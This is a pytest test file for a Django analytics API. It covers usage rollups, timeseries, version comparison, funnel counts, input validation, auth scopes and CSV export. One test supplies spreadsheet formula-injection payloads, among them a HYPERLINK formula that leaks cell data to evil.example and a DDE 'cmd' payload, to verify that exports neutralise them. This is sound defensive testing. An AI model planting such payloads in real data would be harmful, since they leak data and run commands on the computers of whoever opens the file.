"""The analytics endpoints: shapes outside clients rely on, CSV, scopes and bad input."""

from __future__ import annotations

import csv
import io

import pytest
from rest_framework.test import APIClient

from registry.models import HourlyRollup, QueuedOffer
from registry.services.usage import UsageEventInput, usage_record

pytestmark = pytest.mark.django_db


def record(api, skill, version, succeeded, failed, when="2026-03-10T12:00:00Z", **extra):
    specs = [("s", "succeeded", succeeded), ("f", "failed", failed)]
    events = [
        {"event_id": f"{skill}-{version}-{when}-{tag}{i}", "kind": kind, "skill": skill, "version": version, "at": when}
        | extra
        for tag, kind, count in specs
        for i in range(count)
    ]
    response = api.post("/api/v1/usage", {"events": events}, format="json")
    assert response.status_code == 200, response.content


def test_events_carry_label_trigger_and_model_and_rows_split_by_them(api):
    record(api, "pdf", 1, 2, 1, trigger="read_skill", model="gpt-4o", label="production")
    record(api, "pdf", 1, 0, 1, when="2026-03-11T08:00:00Z", trigger="forced", model="claude", label="staging")

    def rows(**params):
        return api.get("/api/v1/analytics/skills", params).json()["skills"]

    assert {r["trigger"]: r["n"] for r in rows(by="trigger")} == {"read_skill": 3, "forced": 1}
    assert {r["model"]: r["succeeded"] for r in rows(by="model")} == {"gpt-4o": 2, "claude": 0}
    assert {r["label"]: r["failed"] for r in rows(by="label")} == {"production": 1, "staging": 1}
    assert [r["n"] for r in rows(trigger="forced")] == [1]
    assert api.get("/api/v1/analytics/skills", {"by": "colour"}).status_code == 400
    assert HourlyRollup.objects.filter(source="api").exists()


def test_timeseries_shape_buckets_and_intervals(api):
    record(api, "pdf", 1, 3, 1, when="2026-03-10T09:30:00Z")
    record(api, "pdf", 1, 1, 0, when="2026-03-12T23:59:59Z")

    body = api.get(
        "/api/v1/analytics/skills/pdf/timeseries", {"interval": "day", "from": "2026-03-10", "to": "2026-03-12"}
    ).json()

    assert [p["bucket"] for p in body["points"]] == [
        "2026-03-10T00:00:00Z",
        "2026-03-11T00:00:00Z",
        "2026-03-12T00:00:00Z",
    ]
    first = body["points"][0]
    assert set(first) >= {"bucket", "succeeded", "failed", "n", "success_rate", "ci_low", "ci_high"}
    assert (first["succeeded"], first["failed"], first["n"], first["success_rate"]) == (3, 1, 4, 0.75)
    assert first["ci_low"] == pytest.approx(0.3006, abs=1e-4) and first["ci_high"] == pytest.approx(0.9544, abs=1e-4)
    assert body["points"][1]["n"] == 0 and body["points"][1]["success_rate"] is None
    hours = api.get(
        "/api/v1/analytics/skills/pdf/timeseries", {"interval": "hour", "from": "2026-03-10", "to": "2026-03-10"}
    )
    assert [p["n"] for p in hours.json()["points"]].count(4) == 1 and len(hours.json()["points"]) == 24
    weeks = api.get("/api/v1/analytics/skills/pdf/timeseries", {"interval": "week"}).json()["points"]
    assert [(p["bucket"], p["n"]) for p in weeks] == [("2026-03-09T00:00:00Z", 5)]
    as_csv = api.get("/api/v1/analytics/skills/pdf/timeseries", {"interval": "week", "format": "csv"})
    assert list(csv.DictReader(io.StringIO(as_csv.content.decode())))[0]["n"] == "5"


def test_compare_gives_the_difference_with_newcombes_interval_and_the_probability(api):
    record(api, "pdf", 2, 48, 32)
    record(api, "pdf", 3, 56, 14)

    body = api.get("/api/v1/analytics/skills/pdf/compare", {"a": 2, "b": 3}).json()

    assert (body["a"]["n"], body["b"]["n"]) == (80, 70)
    assert body["difference"] == {"estimate": 0.2, "ci_low": 0.0524, "ci_high": 0.3339}
    assert 0.99 < body["probability_b_better"] <= 1
    assert body["summary"].startswith("v3 beats v2 with")
    assert api.get("/api/v1/analytics/skills/pdf/compare", {"a": 2}).status_code == 400
    assert api.get("/api/v1/analytics/skills/nothing-here/compare", {"a": 1, "b": 2}).status_code == 404


def test_compare_with_a_version_without_outcomes_has_no_difference(api):
    record(api, "pdf", 1, 3, 1)
    body = api.get("/api/v1/analytics/skills/pdf/compare", {"a": 1, "b": 9}).json()
    assert body["difference"] == {"estimate": None, "ci_low": None, "ci_high": None}
    # No data on b: its posterior is uniform, the probability is still defined.
    assert 0 < body["probability_b_better"] < 0.5


def test_funnel_counts_and_failing_ranking(api):
    events = [{"event_id": f"o{i}", "kind": "offered", "skill": "pdf", "version": 1} for i in range(4)]
    events += [{"event_id": "l", "kind": "loaded", "skill": "pdf", "version": 1}]
    api.post("/api/v1/usage", {"events": events}, format="json")
    record(api, "pdf", 1, 8, 2, when="2026-03-10T12:00:00Z")
    record(api, "bad", 1, 1, 12)

    funnel = api.get("/api/v1/analytics/funnel", {"skill": "pdf"}).json()
    assert {k: funnel[k] for k in ("offered", "loaded", "executed", "succeeded", "failed")} == {
        "offered": 4,
        "loaded": 1,
        "executed": 0,
        "succeeded": 8,
        "failed": 2,
    }
    failing = api.get("/api/v1/analytics/failing", {"min_n": 10}).json()
    assert [row["skill"] for row in failing["skills"]] == ["bad", "pdf"]
    assert api.get("/api/v1/analytics/failing", {"min_n": 11}).json()["skills"][0]["skill"] == "bad"
    assert len(api.get("/api/v1/analytics/failing", {"min_n": 14}).json()["skills"]) == 0


@pytest.mark.parametrize(
    ("path", "params", "field"),
    [
        ("/api/v1/analytics/skills", {"from": "9999-12-31"}, "from"),
        ("/api/v1/analytics/skills", {"to": "0001-01-01"}, "to"),
        ("/api/v1/analytics/skills", {"from": "2026-02-30"}, "from"),
        ("/api/v1/analytics/skills/pdf/timeseries", {"to": "9999-12-31"}, "to"),
        ("/api/v1/analytics/skills/pdf/timeseries", {"interval": "month"}, "interval"),
        (
            "/api/v1/analytics/skills/pdf/timeseries",
            {"interval": "hour", "from": "2000-01-01", "to": "2026-01-01"},
            "interval",
        ),
        ("/api/v1/analytics/skills/pdf/compare", {"a": 1, "b": 2, "from": "9999-12-31"}, "from"),
        ("/api/v1/analytics/skills/pdf/compare", {"a": "x", "b": 2}, "a"),
        ("/api/v1/analytics/funnel", {"from": "2026-03-02", "to": "2026-03-01"}, "from"),
        ("/api/v1/analytics/funnel", {"to": "tomorrow"}, "to"),
        ("/api/v1/analytics/failing", {"min_n": 0}, "min_n"),
    ],
)
def test_bad_dates_and_parameters_are_a_400_naming_the_field(api, path, params, field):
    record(api, "pdf", 1, 1, 1)
    response = api.get(path, params)
    assert response.status_code == 400, response.content
    assert field in response.json()["fields"]


def test_an_event_dated_out_of_range_is_refused(api):
    response = api.post(
        "/api/v1/usage",
        {"events": [{"event_id": "x", "kind": "loaded", "skill": "pdf", "at": "9999-12-31T23:00:00Z"}]},
        format="json",
    )
    assert response.status_code == 400 and "events" in response.json()["fields"]


def test_analytics_needs_the_analytics_read_scope(make_token):
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Bearer {make_token(['skills:read'])}")
    for path in (
        "/api/v1/analytics/skills",
        "/api/v1/analytics/skills/pdf/timeseries",
        "/api/v1/analytics/skills/pdf/compare?a=1&b=2",
        "/api/v1/analytics/funnel",
        "/api/v1/analytics/failing",
    ):
        assert client.get(path).status_code == 403, path
    assert APIClient().get("/api/v1/analytics/funnel").status_code == 401


def test_every_endpoint_answers_csv(api):
    record(api, "pdf", 1, 2, 2)
    record(api, "pdf", 2, 1, 0)
    for path, first_column in (
        ("/api/v1/analytics/skills?by_version=true", "skill"),
        ("/api/v1/analytics/skills/pdf/compare?a=1&b=2", "side"),
        ("/api/v1/analytics/funnel", "offered"),
        ("/api/v1/analytics/failing?min_n=1", "skill"),
    ):
        response = api.get(path, HTTP_ACCEPT="text/csv")
        assert response.status_code == 200 and response["Content-Type"].startswith("text/csv"), path
        assert response["Content-Disposition"].startswith("attachment")
        header, *rows = list(csv.reader(io.StringIO(response.content.decode())))
        assert header[0] == first_column and rows, path


@pytest.mark.parametrize(
    "hostile", ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]
)
def test_csv_cells_from_reported_text_never_start_a_formula(api, hostile):
    """OWASP's rule: text that a client reported (here the skill and model names) is prefixed with
    an apostrophe when it begins with = + - @ tab or CR; our own numbers stay numbers."""
    record(api, hostile, 1, 1, 2, model=hostile)
    for path in (
        "/api/v1/analytics/skills?by_version=true",
        "/api/v1/analytics/skills?by=model",
        "/api/v1/analytics/failing?min_n=1",
    ):
        response = api.get(path, HTTP_ACCEPT="text/csv")
        assert response.status_code == 200, path
        header, *rows = list(csv.reader(io.StringIO(response.content.decode())))
        cells = [cell for row in rows for cell in row]
        assert "'" + hostile in cells, path
        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells), (path, cells)
        assert not any(cell.startswith("-") and not _is_number(cell) for cell in cells), (path, cells)


@pytest.mark.parametrize("text", ["\t=1+1", "\r=1+1", "\n=1+1"])
def test_csv_cells_starting_with_a_control_character_are_text_too(text):
    """The usage API strips such names before they are stored; the renderer does not rely on it."""
    from registry.api.usage import _spreadsheet_cell

    assert _spreadsheet_cell(text) == "'" + text
    assert _spreadsheet_cell(-0.5) == -0.5 and _spreadsheet_cell(None) == ""


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize(
    "path",
    [
        "/api/v1/analytics/skills",
        "/api/v1/analytics/funnel",
        "/api/v1/analytics/failing",
        "/api/v1/analytics/skills/pdf/timeseries",
        "/api/v1/analytics/skills/pdf/compare?a=1&b=2",
    ],
)
def test_every_answer_counts_the_offers_a_finished_turn_left_queued(api, path):
    listed = (("pdf", 1), ("xlsx", None))
    usage_record(events=[UsageEventInput("t1:offered", "offered", "", offered_skills=listed)], source="runtime")
    assert QueuedOffer.objects.exists()

    assert api.get(path).status_code == 200
    assert not QueuedOffer.objects.exists()  # the view rolled the queue up before it read
    assert api.get("/api/v1/analytics/funnel").json()["offered"] == 2


@pytest.mark.parametrize("by_version", [False, True])
@pytest.mark.parametrize("by", [None, "trigger", "model", "label"])
def test_the_skills_csv_carries_every_column_its_json_rows_have_and_the_same_rows(api, by, by_version):
    """`by=` splits each row by trigger, model or label: the CSV has that column, after version,
    and row for row the values the JSON has (the JSON's keys, in its order)."""
    record(api, "pdf", 1, 2, 1, trigger="read_skill", model="gpt-4o", label="production")
    record(api, "pdf", 2, 0, 1, when="2026-03-11T08:00:00Z", trigger="forced", model="claude", label="staging")
    record(api, "git", 1, 3, 0, trigger="read_skill", model="claude", label="production")
    params = {"by_version": "true" if by_version else "false", **({"by": by} if by else {})}

    rows = api.get("/api/v1/analytics/skills", params).json()["skills"]
    answer = api.get("/api/v1/analytics/skills", {**params, "format": "csv"})

    assert answer.status_code == 200 and answer["Content-Type"].startswith("text/csv")
    header, *cells = list(csv.reader(io.StringIO(answer.content.decode())))
    assert header == list(rows[0])  # the JSON row's keys, in order: nothing dropped or added
    assert header[:4] == ["skill", "source", "version", by or "offered"]
    as_text = [["" if value is None else str(value) for value in row.values()] for row in rows]
    assert cells == as_text
    if by:
        assert len({row[by] for row in rows}) > 1  # the grouping is what tells the rows apart
